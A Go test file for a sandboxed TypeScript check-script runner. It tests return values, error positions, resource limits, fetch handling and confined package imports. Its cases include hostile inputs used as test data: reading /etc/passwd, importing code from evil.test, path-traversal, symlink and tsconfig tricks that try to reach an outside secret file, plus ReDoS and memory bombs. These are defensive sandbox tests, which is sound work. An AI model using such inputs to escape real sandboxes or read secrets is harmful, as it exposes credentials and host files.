package script

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"flag"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"go.uber.org/goleak"
	"modernc.org/quickjs"
)

func TestMain(m *testing.M) { goleak.VerifyTestMain(m) }

var runner Runner

// patient is far more than any script here needs, on a slow machine too.
const patient = time.Minute

func runWithin(t *testing.T, d time.Duration, in Input, fetch Fetcher) (Outcome, error) {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), d)
	defer cancel()
	if in.Name == "" {
		in.Name = "check.ts"
	}
	return runner.Run(ctx, in, Limits{}, fetch)
}

func run(t *testing.T, source string) (Outcome, error) {
	t.Helper()
	return runWithin(t, patient, Input{Source: source}, http.DefaultTransport)
}

func value(v float64) *float64 { return &v }

// What a script returns becomes its outcome (spec G.7).
func TestWhatAScriptReturns(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct {
		source string
		want   Outcome
	}{
		"a default function":          {`export default async function () { await null; return { success: false, message: "low", value: 3 } }`, Outcome{Message: "low", Value: value(3)}},
		"a default value":             {`export default { success: true, value: 1.5 }`, Outcome{Success: true, Value: value(1.5)}},
		"an arrow function":           {`export default () => 7`, Outcome{Success: true, Value: value(7)}},
		"a promise":                   {`export default Promise.resolve("fine")`, Outcome{Success: true, Message: "fine"}},
		"a helper around a function":  {`const define = (o: object) => o; export default define({ run: () => false })`, Outcome{}},
		"only a return":               {`const n: number = await Promise.resolve(2)` + "\n" + `return n > 1`, Outcome{Success: true}},
		"nothing":                     {`const x = 1`, Outcome{Success: true}},
		"an object without a success": {`return { message: "m" }`, Outcome{Success: true, Message: "m"}},
		"null":                        {`return null`, Outcome{Success: true}},
		"what it knows":               {`export default (c: any) => ({ message: c.check.name + context.system.name + process.env.REGION })`, Outcome{Success: true, Message: "frontshopeu"}},
		"what it prints":              {`console.log("a", 1, {b: [2, "c"]}); console.error(new Map([[1, {x: null}]])); return true`, Outcome{Success: true, Output: "a 1 { b: [2, \"c\"] }\nMap { 1 => { x: null } }\n"}},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			got, err := runWithin(t, patient, Input{
				Source: c.source, Context: json.RawMessage(`{"check":{"name":"front"},"system":{"name":"shop"}}`), Env: map[string]string{"REGION": "eu"},
			}, nil)
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(c.want, got); diff != "" {
				t.Errorf("outcome (-want +got):\n%s", diff)
			}
		})
	}
}

// What is wrong with a script is told with its place in the source.
func TestErrorsPointIntoTheSource(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct {
		source string
		want   Error
	}{
		"thrown": {
			"interface A { n: number }\n\nfunction inner(a: A) {\n  throw new TypeError(\"boom \" + a.n)\n}\nexport default async () => {\n  await null\n  inner({ n: 3 })\n}\n",
			Error{Message: "TypeError: boom 3", At: "check.ts:4:13", Stack: []string{"inner (check.ts:4:13)", "default (check.ts:8:3)"}},
		},
		"thrown at the top":         {"const a = 1\nawait null\nthrow new Error(\"early\")", Error{Message: "Error: early", At: "check.ts:3:11", Stack: []string{"check.ts:3:11"}}},
		"no such name":              {"return 1 +\n  missing", Error{Message: "ReferenceError: 'missing' is not defined", At: "check.ts:2:3", Stack: []string{"default (check.ts:2:3)"}}},
		"no TypeScript":             {"const a: = 3", Error{Message: `Unexpected "="`, At: "check.ts:1:10"}},
		"thrown text":               {"throw 'no'", Error{Message: `the script threw "no"`}},
		"a package that is nowhere": {"import x from \"left-pad\"\nexport default x", Error{Message: "there is no package left-pad on this satellite (perigee package add left-pad)", At: "check.ts:1:15"}},
		"a part of Node":            {"import fs from \"node:fs\"\nfs.readFileSync(\"/etc/passwd\")", Error{Message: "node:fs is a part of Node, and this script runs without it; set runtime to node where Node is installed", At: "check.ts:1:16"}},
		"code from an address":      {"import x from \"https://evil.test/x.js\"\nx()", Error{Message: "https://evil.test/x.js: code is imported from packages, not from addresses", At: "check.ts:1:15"}},
		"a list":                    {"return [1]", Error{}},
		"waits for ever":            {"await new Promise(() => {})", Error{Message: "the script waits for something that never comes: no timer and no request is left that could end it"}},
		"thrown by a timer":         {"setTimeout(() => { throw new Error('late') }, 1)\nawait new Promise(() => {})", Error{Message: "Error: late", At: "check.ts:1:30", Stack: []string{"check.ts:1:30"}}},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			_, err := run(t, c.source)
			got, ok := errors.AsType[*Error](err)
			if c.want.Message == "" {
				if ok || err == nil || !strings.Contains(err.Error(), "returned a list") {
					t.Errorf("error = %v", err)
				}
				return
			}
			if !ok {
				t.Fatalf("error = %v", err)
			}
			if diff := cmp.Diff(c.want, *got); diff != "" {
				t.Errorf("error (-want +got):\n%s", diff)
			}
		})
	}
}

var update = flag.Bool("update", false, "write what the engine makes of prelude.js to prelude.bin")

// What is built in is prelude.js, by the engine that runs it.
func TestThePreludeIsCompiled(t *testing.T) {
	t.Parallel()
	source, err := os.ReadFile("prelude.js")
	if err != nil {
		t.Fatal(err)
	}
	vm, err := quickjs.NewVM()
	if err != nil {
		t.Fatal(err)
	}
	defer vm.Close()
	want, err := vm.Compile("globalThis.__prelude = "+string(source), quickjs.EvalGlobal)
	if err != nil {
		t.Fatal(err)
	}
	if *update {
		if err := os.WriteFile("prelude.bin", want, 0o644); err != nil { //nolint:gosec // it is source
			t.Fatal(err)
		}
	} else if !bytes.Equal(want, prelude) {
		t.Error("prelude.bin is not what prelude.js says (make generate)")
	}
}

// What a script can do to its time and memory ends in an error, and takes nobody along.
func TestWhatAScriptMayTake(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct {
		source, want string
		short        bool
	}{
		"an endless loop":        {"for (;;) {}", "did not end in its time", true},
		"endless promises":       {"const f = () => { Promise.resolve().then(f) }; f(); await new Promise(() => {})", "did not end in its time", true},
		"a regular expression":   {`/^(a+)+$/.test("a".repeat(60) + "b")`, "did not end in its time", true},
		"no point to interrupt":  {"new Array(5e8).join()", "", true},
		"a long sleep":           {"await new Promise(r => setTimeout(r, 1e9))", "did not end in its time", true},
		"a memory bomb":          {"const a: any[] = []; for (;;) a.push(new Array(1000).fill(1))", "out of memory", false},
		"a text bomb":            {`let s = "x"; for (;;) s += s`, "", false},
		"recursion":              {"const f = (n: number): number => f(n + 1) + 1; f(0)", "stack overflow", false},
		"timers without end":     {"for (let i = 0; i < 1e6; i++) setTimeout(() => {}, 1e6)", "timers wait", false},
		"requests without end":   {"await Promise.all(Array.from({ length: 1000 }, () => fetch('http://127.0.0.1:1/')))", "requests in one run", false},
		"a source of a megabyte": {"//" + strings.Repeat("x", maxSource), "more than", false},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			d := patient
			if c.short {
				d = time.Second
			}
			_, err := runWithin(t, d, Input{Source: c.source}, http.DefaultTransport)
			if err == nil || !strings.Contains(err.Error(), c.want) {
				t.Errorf("error = %v, want %q in it", err, c.want)
			}
			if c.short && c.want != "" && !errors.Is(err, ErrTimeout) {
				t.Errorf("error = %v, want ErrTimeout", err)
			}
		})
	}
}

// Printing without end is read on and not kept.
func TestOutputIsCut(t *testing.T) {
	t.Parallel()
	got, err := run(t, `for (let i = 0; i < 20000; i++) console.log("line " + i); return true`)
	if err != nil {
		t.Fatal(err)
	}
	if !got.Success || !got.Cut || len(got.Output) > DefaultOutput || !strings.HasPrefix(got.Output, "line 0\nline 1\n") {
		t.Errorf("kept %d bytes, to %q", len(got.Output), got.Output[max(0, len(got.Output)-20):])
	}
}

// What the web has, scripts have: each line is true.
func TestTheWebAroundScripts(t *testing.T) {
	t.Parallel()
	text, err := os.ReadFile("testdata/web.ts")
	if err != nil {
		t.Fatal(err)
	}
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/echo":
			w.Header().Set("Content-Type", "application/json")
			w.Header().Set("X-Method", r.Method)
			w.WriteHeader(http.StatusTeapot)
			_ = json.NewEncoder(w).Encode(map[string]any{"type": r.Header.Get("Content-Type"), "auth": r.Header.Get("Authorization"), "q": r.URL.Query()})
		case "/away":
			http.Redirect(w, r, "/echo", http.StatusFound)
		case "/slow":
			<-r.Context().Done()
		case "/huge":
			_, _ = w.Write(make([]byte, maxBody+1))
		}
	}))
	t.Cleanup(server.Close)
	got, err := runWithin(t, patient, Input{Source: string(text), Env: map[string]string{"SERVER": server.URL}}, http.DefaultTransport)
	if err != nil || !got.Success {
		t.Errorf("%+v, %v", got, err)
	}
}

// Imports come from the packages of the root, and from nowhere else.
func TestPackages(t *testing.T) {
	t.Parallel()
	outside := t.TempDir()
	root := filepath.Join(t.TempDir(), "tree")
	for name, content := range map[string]string{
		filepath.Join(root, "node_modules/plain/package.json"):           `{"name":"plain","main":"index.js"}`,
		filepath.Join(root, "node_modules/plain/index.js"):               `const dep = require("@scope/dep"); exports.answer = () => dep.default + 1`,
		filepath.Join(root, "node_modules/@scope/dep/package.json"):      `{"name":"@scope/dep","exports":{"import":"./dep.mjs","require":"./dep.cjs"},"type":"module"}`,
		filepath.Join(root, "node_modules/@scope/dep/dep.mjs"):           `export default 41`,
		filepath.Join(root, "node_modules/@scope/dep/dep.cjs"):           `exports.default = 41`,
		filepath.Join(root, "node_modules/broken/index.js"):              "export const fail = () => {\n  throw new RangeError('inside')\n}",
		filepath.Join(outside, "secret.json"):                            `{"token":"abc"}`,
		filepath.Join(root, "node_modules/thief/index.js"):               `import s from "` + filepath.Join(outside, "secret.json") + `"; export default s`,
		filepath.Join(root, "node_modules/thief/package.json"):           `{"name":"thief","main":"index.js"}`,
		filepath.Join(root, "node_modules/tsconfig-thief/index.ts"):      `export default 1`,
		filepath.Join(root, "node_modules/tsconfig-thief/tsconfig.json"): `{"extends":"` + filepath.Join(outside, "secret.json") + `"}`,
	} {
		if err := os.MkdirAll(filepath.Dir(name), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(name, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Symlink(filepath.Join(outside, "secret.json"), filepath.Join(root, "node_modules/link.json")); err != nil {
		t.Fatal(err)
	}
	in := func(source string) (Outcome, error) {
		return runWithin(t, patient, Input{Source: source, Root: root}, nil)
	}
	got, err := in(`import { answer } from "plain"; import dep from "@scope/dep"` + "\nreturn answer() + dep")
	if diff := cmp.Diff(Outcome{Success: true, Value: value(83)}, got); diff != "" || err != nil {
		t.Errorf("imports (-want +got):\n%s%v", diff, err)
	}
	_, err = in(`import { fail } from "broken"` + "\nexport default () => fail()")
	want := &Error{Message: "RangeError: inside", At: "node_modules/broken/index.js:2:13", Stack: []string{"fail (node_modules/broken/index.js:2:13)", "default (check.ts:2:22)"}}
	if e, ok := errors.AsType[*Error](err); !ok || !cmp.Equal(want, e) {
		t.Errorf("%v\n%s", err, cmp.Diff(want, e))
	}
	for _, source := range []string{
		`import s from "` + filepath.Join(outside, "secret.json") + `"; export default s`,
		`import s from "../../` + filepath.Base(filepath.Dir(outside)) + `/secret.json"; export default s`,
		`import s from "./node_modules/link.json"; export default s`,
		`import s from "thief"; export default s`,
	} {
		if got, err := in(source); err == nil {
			t.Errorf("%s gives %+v", source, got)
		}
	}
}

// A run that nobody waits for any more ends at once.
func TestCancelledRunsEnd(t *testing.T) {
	t.Parallel()
	ctx, cancel := context.WithCancel(t.Context())
	ended := make(chan error)
	server := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		cancel() // the script runs
		<-r.Context().Done()
	}))
	t.Cleanup(server.Close)
	go func() {
		_, err := runner.Run(ctx, Input{Source: `await fetch("` + server.URL + `")`, Name: "check.ts"}, Limits{}, http.DefaultTransport)
		ended <- err
	}()
	if err := <-ended; err == nil {
		t.Error("a run that was cancelled succeeded")
	}
}

func BenchmarkRun(b *testing.B) {
	ctx := context.Background()
	for b.Loop() {
		if _, err := runner.Run(ctx, Input{Source: "return 1", Name: "check.ts"}, Limits{}, nil); err != nil {
			b.Fatal(err)
		}
	}
}
